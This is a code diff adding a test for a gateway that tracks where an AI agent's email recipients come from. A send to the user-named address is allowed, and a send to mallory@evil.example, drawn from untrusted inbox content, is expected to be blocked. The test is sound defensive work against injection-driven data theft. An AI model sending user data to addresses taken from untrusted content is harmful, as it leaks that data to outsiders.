@@ -155,6 +155,24 @@ def test_without_begin_task_every_value_from_a_result_is_untrusted(tmp_path, pro
     assert _sent(tmp_path) == []
 
 
+def test_a_harness_passes_the_request_with_request(tmp_path, provenance_monitor):
+    env = _env(tmp_path)
+
+    async def body(s, init):
+        await s.call_tool("read_inbox", {})
+        r = await s.call_tool("send_email", {"recipients": ["bob@corp.example"], "body": "notes"})
+        assert not _is_error(r), _text(r)
+        r = await s.call_tool("send_email", {"recipients": ["mallory@evil.example"], "body": "notes"})
+        assert _is_error(r) and "blocked" in _text(r), _text(r)
+
+    audit = tmp_path / "audit.jsonl"
+    run(_gateway(["--monitor", str(provenance_monitor), "--request", USER_REQUEST, "--audit", str(audit),
+                  "--upstream", f"mail={PY} {UPSTREAM}"], env, body))
+    assert _sent(tmp_path) == [{"recipients": ["bob@corp.example"], "body": "notes"}]
+    # The address is the user's: it is in the request the harness passed.
+    assert [l["provenance"] for l in _audit(audit)] == ["none", "user", "untrusted"]
+
+
 def _pids(tmp_path: Path) -> list:
     return [int(x) for x in (tmp_path / "pids.txt").read_text().split()]
 
